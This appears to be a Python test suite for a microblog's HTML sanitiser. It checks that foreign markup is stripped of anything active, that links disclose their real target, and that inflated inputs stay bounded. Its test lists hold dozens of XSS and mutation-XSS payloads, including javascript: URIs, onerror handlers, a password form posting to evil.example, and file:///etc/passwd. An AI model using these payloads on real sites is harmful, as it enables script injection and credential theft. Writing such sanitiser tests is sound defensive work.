"""Markup from elsewhere: its plain text, and what is left of it when it is made harmless."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from microblog.wire import html, ns
from microblog.wire.xml import Element, parse, to_text
from tests.xmltext import read

ALLOWED = frozenset(html._ALLOWED_TAGS.split())
ATTRIBUTES = frozenset(
    ("href", "rel", "title", "src", "alt", "width", "height", "start", "colspan", "rowspan", "lang", "dir")
)


def left(markup: str) -> str:
    found = html.sanitised(markup)
    text = "" if found is None else to_text(found)
    return text.removeprefix(f"<div xmlns='{ns.XHTML}'>").removesuffix("</div>")


class Reader(HTMLParser):
    """Reads as a page would that is handed the XHTML as HTML; knows nothing of how it was made."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def assert_harmless(element: Element) -> None:
    """As XML, and as HTML, nothing but what is allowed."""
    reader = Reader()
    reader.feed(to_text(element).replace(f" xmlns='{ns.XHTML}'", ""))
    reader.close()
    for tag, attributes in reader.seen:
        assert tag in ALLOWED
        assert attributes.keys() <= ATTRIBUTES
        for name in ("href", "src"):
            assert html.is_safe_address(attributes.get(name) or "https:")
    waiting = [element]
    while waiting:
        one = waiting.pop()
        assert one.uri == ns.XHTML
        assert one.name in ALLOWED
        assert one.attributes.keys() <= ATTRIBUTES
        waiting.extend(one.elements())


ACTIVE = [
    "<script>alert(1)</script>",
    "<p onclick='alert(1)' onmouseover=alert(1) style='background:url(javascript:alert(1))'>a</p>",
    "<a href='javascript:alert(1)'>a</a>",
    "<a href=' java\tscript:alert(1)'>a</a>",
    "<a href='&#106;avascript:alert(1)'>a</a>",
    "<a href='JaVaScRiPt:alert(1)'>a</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "<a href='vbscript:x'>a</a>",
    "<a href='file:///etc/passwd'>a</a>",
    "<a href='//evil.example'>a</a>",
    "<img src='data:image/svg+xml,x'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>a</text></a></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>a</maction></math>",
    "<style>@import 'http://evil.example'</style>",
    "<base href='http://evil.example/'>",
    "<form action='http://evil.example/'><input name=password><button formaction='javascript:alert(1)'>a</button>",
    "<iframe src='http://evil.example/'></iframe><object data=x></object><embed src=x>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'><link rel=stylesheet href=//evil.example>",
    "<video src=x onerror=alert(1)></video><audio src=x></audio>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>a</details>",
]
MUTATING = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
]


@pytest.mark.parametrize("markup", ACTIVE)
def test_i153_nothing_that_acts_is_left(markup: str) -> None:
    found = html.sanitised(f"<p>before</p>{markup}<p>after</p>")
    assert found is not None
    assert_harmless(found)
    text = to_text(found)
    assert "before" in text
    assert "alert" not in text.replace("&lt;", "")


@pytest.mark.parametrize("markup", MUTATING)
def test_i154_nothing_acts_when_it_is_read_again(markup: str) -> None:
    for wrapped in (markup, f"<p>{markup}</p>", f"<table><tr><td>{markup}"):
        found = html.sanitised(wrapped)
        for _ in range(3):
            if found is not None:
                assert_harmless(found)
                found = html.sanitised_xhtml(Element(ns.ATOM, "content", {"type": "xhtml"}, found))


@settings(deadline=None)
@given(st.text("<>/!-abpisvg &;\"'=\x00\x0c\n", max_size=120))
def test_whatever_comes_is_harmless_and_stays_as_it_is(markup: str) -> None:
    found = html.sanitised(markup)
    if found is None:
        return
    assert_harmless(found)
    assert parse(to_text(found)) == found
    assert html.sanitised_xhtml(Element(ns.ATOM, "content", {"type": "xhtml"}, found)) == found


@pytest.mark.parametrize(
    ("markup", "kept"),
    [
        ("<p>a <b>b</b> <i lang='it'>c</i></p>", "<p>a <b>b</b> <i lang='it'>c</i></p>"),
        ("a<br>b<hr/>", "a<br/>b<hr/>"),
        ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
        ("&eacute; &amp;amp; &nbsp;&#12;x", "é &amp;amp; \xa0x"),
        ("<div><p>a</p></div>", "<p>a</p>"),
        (
            "<img src='https://x.example/a.png' alt='a&lt;b&gt;\"'>",
            "<img src='https://x.example/a.png' alt='a&lt;b&gt;&quot;'/>",
        ),
        ("<font color=red>a</font><blink>b</blink>", "ab"),
        ("<!-- c -->d<?php x ?>", "d"),
        ("<script>x</script>", ""),
        ("", ""),
    ],
)
def test_what_is_harmless_stays(markup: str, kept: str) -> None:
    assert left(markup) == kept


def test_i155_links_say_that_they_are_nobodys_recommendation() -> None:
    assert left("<a href='https://x.example/?a=1&amp;b=2' target=_top>a</a>") == (
        "<a href='https://x.example/?a=1&amp;b=2' rel='nofollow noopener noreferrer'>a</a>"
    )


@pytest.mark.parametrize(
    ("link", "text"),
    [
        ("<a href='https://evil.example/'>https://bank.example/</a>", "https://bank.example/ <https://evil.example/>"),
        ("<a href='https://x.example/a'>here</a>", "here <https://x.example/a>"),
        ("<a href='https://x.example/a'>at https://x.example/a</a>", "at https://x.example/a"),
        # A Cyrillic a: DNS knows it by another name.
        ("<a href='https://b\u0430nk.example/'>b\u0430nk</a>", "b\u0430nk <https://xn--bnk-6cd.example/>"),
        ("<a href='xmpp:juliet@capulet.example'>@juliet</a>", "@juliet"),
        ("<a href='javascript:x'>here</a>", "here"),
        ("<a>here</a>", "here"),
    ],
)
def test_i155_text_says_where_a_link_leads(link: str, text: str) -> None:
    assert html.html_to_text(link) == text
    assert html.xhtml_to_text(read(f"<div xmlns='{ns.XHTML}'>{link}</div>")) == text


def test_xhtml_that_is_not_xhtml() -> None:
    content = read(
        f"<content type='xhtml' xmlns='{ns.ATOM}'><div xmlns='{ns.XHTML}'>a"
        "<x xmlns='urn:x'>b</x><SCRIPT>c</SCRIPT><p onclick='d'>e</p>f</div></content>"
    )
    found = html.sanitised_xhtml(content)
    assert found is not None
    assert to_text(found) == f"<div xmlns='{ns.XHTML}'>a<p>e</p>f</div>"


GROWING = {
    "formatting opened again": "<p>" + "".join(f"<b lang='{n}'>" for n in range(40)) + "<p>x</p>" * 8_000,
    "links": "<a>" * 20_000,
    "formatting in tables": "<table><b>" * 6_000,
    "formatting that seems closed": "<b title='</b>'>" * 2_000 + "<p>x" * 6_000,
    "formatting that cannot be closed": "<b><table></b></table>" * 1_500 + "<p>x" * 5_000,
    "depth": "<div>" * 13_000 + "x",
    "quiet depth": "<div>" * 2_900 + "x",
    "comments": "<!--" * 16_000,
    "attributes": "<p " + " ".join(f"a{n}=1" for n in range(9_000)) + ">x",
    "less than": "<" * 65_000,
    "href": '<a href="' * 7_000,
}


@pytest.mark.parametrize("markup", GROWING.values(), ids=GROWING.keys())
def test_markup_made_to_grow_does_not(markup: str) -> None:
    begin = time.process_time()
    found = html.sanitised(markup)
    assert time.process_time() - begin < 1
    if found is not None:
        assert len(to_text(found)) < 5 * len(markup) + 5_000
        assert_harmless(found)


def test_what_is_too_much_is_plain_text() -> None:
    assert left("<div>" * 100 + "a &amp; <b>b</b>") == "<p>a &amp; b</p>"
    many = "<p>a <b>b</b></p>\n" * 1_000
    assert left(many).startswith("<p>a b<br/>a b<br/>")
    # as much as this is an article
    assert left("<p>a <b>b</b> <a href='https://x.example/'>c</a></p>" * 300).count("<a href") == 300


def test_addresses() -> None:
    for href in ("https://x.example", "XMPP:romeo@montague.example", "mailto:a@b", "geo:1,2"):
        assert html.is_safe_address(href)
    for href in (
        "",
        "x",
        "/x",
        "//x",
        "file:///x",
        "javascript:x",
        "https",
        f"https://x/{'a' * html.HREF_MAX_CHARACTERS}",
    ):
        assert not html.is_safe_address(href)
